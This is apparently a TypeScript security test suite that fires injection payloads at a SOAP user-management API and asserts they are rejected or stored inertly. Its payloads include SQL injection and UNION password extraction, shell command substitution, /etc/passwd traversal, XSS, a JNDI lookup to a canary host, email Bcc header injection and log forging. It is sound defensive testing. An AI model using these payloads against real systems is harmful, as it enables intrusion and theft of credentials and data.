import { expect } from 'chai';
import {
  answered,
  change,
  envelope,
  fill,
  getData,
  note,
  reads,
  type Attack,
  type Outcome,
  type Scene,
  type Theme,
} from './attack.js';

const DENIED: Outcome = {
  kind: 'fault',
  code: 'Server',
  text: /^Authentication failed(; exceptionId -?\d+-\d+)?$/i,
};

const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

/** The right request of somebody else. */
const asLogin = (what: string, login: string, password = 'wrong'): Attack => ({
  what,
  expected: DENIED,
  body: (scene) =>
    envelope(
      getData(scene)
        .replace(/(<rmi:login.*?>).*?</, (_all, start: string) => `${start}${escaped(login)}<`)
        .replace(/(<rmi:password.*?>).*?</, (_all, start: string) => `${start}${escaped(password)}<`),
    ),
});

const list = (scene: Scene, pattern: string): string =>
  envelope(
    `<svc:list><svc:ctx><dat:id>${scene.contextId}</dat:id></svc:ctx><svc:search_pattern>${escaped(pattern)}</svc:search_pattern>${scene.auth}</svc:list>`,
  );

/** A pattern that must find nobody. */
const finds = (count: number, pattern: string): Attack => ({
  what: `the pattern ${pattern.slice(0, 60)}`,
  expected: {
    kind: 'answer',
    check: (body) => expect(body.children[0]?.children ?? [], 'users found').to.have.length(count),
  },
  body: (scene) => list(scene, pattern),
});

/** Text that means something elsewhere and nothing here. */
const inert = [
  "'); DROP TABLE users; --",
  "' OR '1'='1",
  '" OR ""="',
  "\\'; DELETE FROM users; #",
  '1; ATTACH DATABASE "/tmp/x" AS x',
  "x' || (SELECT password FROM resellers) || '",
  '?, :name, $1, @x, ??',
  '%s%s%n%x',
  '${7*7} #{7*7} {{7*7}} <%= 7*7 %>',
  '$(id) `id` | id; id && id > /tmp/x',
  '*)(uid=*))(|(uid=*',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  "=cmd|' /C calc'!A0",
  '{"$gt": ""}',
  '[object Object]x',
  'null',
  'undefined',
  'NaN',
  'true',
  '\u0130\ufb00\u00df',
];

const logins: readonly (readonly [string, string])[] = [
  ['a second line for the log', 'x&#13;&#10;{"level":"info","message":"forged"}'],
  ['a second line by U+2028', 'x\u2028{"level":"info","message":"forged"}'],
  ['a second line by U+0085', 'x\u0085{"level":"info","message":"forged"}'],
  ['the end of a JSON string', 'x","message":"forged","y":"'],
  ['an escape of eight bits', '\u009b31mred\u009b0m'],
  ['text from right to left', '\u202enimda\u202c'],
  ['100,000 characters', fill('x', 100_000)],
];

/** Text that is meant for SQL, patterns, logs, headers and shells. */
export const injection: Theme = {
  title: 'SQL, patterns, logs and other languages',
  attacks: [
    ...inert.map((text) => reads(`the note ${text}`, escaped(text), text)),
    {
      what: 'a note that a logging library would look up',
      expected: { kind: 'answer' },
      body: (scene) => envelope(change(scene, note(`\${jndi:ldap://${scene.canary}/a}`))),
    },
    asLogin('a login that is SQL', "reseller1' --"),
    asLogin('a login that is always true', "' OR 1=1 --"),
    asLogin('a login that is a pattern', 'reseller%'),
    asLogin('a password that is a pattern', 'reseller1', '%'),
    asLogin('a password that is SQL', 'reseller1', "' OR ''='"),
    asLogin('a password that is a hash', 'reseller1', '{SHA}W6ph5Mm5Pz8GgiULbPgzG37mj9g='),
    asLogin('no login and no password', '', ''),
    asLogin('a login with a blank at its end', 'reseller1 '),
    asLogin('a login in capitals', 'RESELLER1', 'reseller-Secret-3x'),
    ...['__proto__', 'constructor', 'toString', 'hasOwnProperty'].map((name) =>
      asLogin(`the login ${name}`, name, name),
    ),
    ...logins.map(([what, login]): Attack => ({
      what: `a login with ${what}`,
      expected: DENIED,
      body: (scene) =>
        envelope(
          getData(scene).replace(/(<rmi:login.*?>).*?</, (_all, start: string) => `${start}${login}<`),
        ),
    })),
    finds(0, "' OR 1=1 --"),
    finds(0, "x' UNION SELECT password FROM resellers --"),
    finds(0, '|%'),
    finds(0, '|*|'),
    finds(0, 'vict|im'),
    finds(0, '\\%'),
    finds(0, '\\*'),
    finds(0, '\\\\'),
    finds(0, '%\\'),
    finds(0, '[a-z]*'),
    finds(0, '^victim$'),
    finds(0, '(a+)+$'),
    finds(0, '__proto__'),
    finds(1, 'vict%'),
    finds(1, '_ictim'),
    ...['ctxid; DROP TABLE users', '1e3', '0x1', '1,2', ' ', '\u0661'].map((id): Attack => ({
      what: `the context id ${id}`,
      expected: {
        kind: 'fault',
        text:
          id === ' '
            ? /./
            : /^(Unmarshalling Error: Not a number: |Invalid value for element "id": not a valid int\.$)/,
        code: id === ' ' ? 'Server' : 'Client',
      },
      body: (scene) =>
        envelope(getData(scene).replace(`<svc:ctx><dat:id>${scene.contextId}<`, `<svc:ctx><dat:id>${id}<`)),
    })),
    ...[
      'a\nb@example.org',
      'a@example.org&#13;&#10;Bcc: evil@example.org',
      '<a@example.org>',
      'a@b@c',
      '"a b"@example.org',
      'a@',
    ].map((address): Attack => ({
      what: `the address ${address.slice(0, 50).replace('\n', '⏎')}`,
      expected: { kind: 'fault', code: 'Server', text: /^(Invalid email address|.*address)/i },
      body: (scene) =>
        envelope(
          change(scene, `<dat:aliases>${address.startsWith('<') ? escaped(address) : address}</dat:aliases>`),
        ),
    })),
    ...['a b', "a'b", 'a;b', 'a/b', 'a&#10;b', '\u202ea', 'a\u0000b'.replace('\u0000', '&#x2028;')].map(
      (name): Attack => ({
        what: `the login ${name} for a user`,
        expected: { kind: 'fault', code: 'Server', text: /./ },
        body: (scene) => envelope(change(scene, `<dat:name>${name}</dat:name>`)),
      }),
    ),
    answered('an Idempotency-Key that is SQL', (scene) => envelope(getData(scene)), {
      headers: () => ({ 'content-type': 'text/xml', 'idempotency-key': "'; DROP TABLE users; --" }),
    }),
  ],
};
